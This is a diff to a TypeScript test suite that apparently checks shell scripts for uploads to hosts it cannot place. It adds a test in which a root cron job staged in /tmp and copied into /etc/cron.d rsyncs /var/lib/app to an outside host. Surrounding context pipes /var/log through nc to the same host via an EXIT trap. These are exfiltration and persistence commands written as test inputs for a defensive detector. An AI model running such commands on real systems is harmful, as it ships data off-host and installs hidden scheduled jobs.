@@ -902,6 +902,18 @@ describe("a script's uploads that run later or by other means", () => {
     }
   });
 
+  // Found by bench regress84: a cron file staged in /tmp, then copied into place, passed.
+  test("fails when a cron file staged in /tmp is copied into /etc/cron.d; twin: one that downloads passes", async () => {
+    const staged = (line: string) =>
+      instance(
+        `#!/bin/bash\ncat > /tmp/ship.cron <<'EOF'\n0 * * * * root ${line}\nEOF\ncp /tmp/ship.cron /etc/cron.d/ship\n`,
+      );
+    const upload = "rsync -a /var/lib/app/ backup.example.de:/srv/app/";
+    expect(await named(staged(upload)(oregon), "vm")).toEqual([offsite]);
+    const download = "rsync -a backup.example.de:/srv/app/ /var/lib/app/";
+    expect(await named(staged(download)(oregon), "vm")).toEqual([]);
+  });
+
   test("fails when a trap's command sends to a host the pack cannot place; twin: one that cleans up passes", async () => {
     const trap = (command: string) => instance(`#!/bin/bash\ntrap '${command}' EXIT\n./run.sh\n`);
     expect(await named(trap("tar cz /var/log | nc backup.example.de 9000")(oregon), "vm")).toEqual([
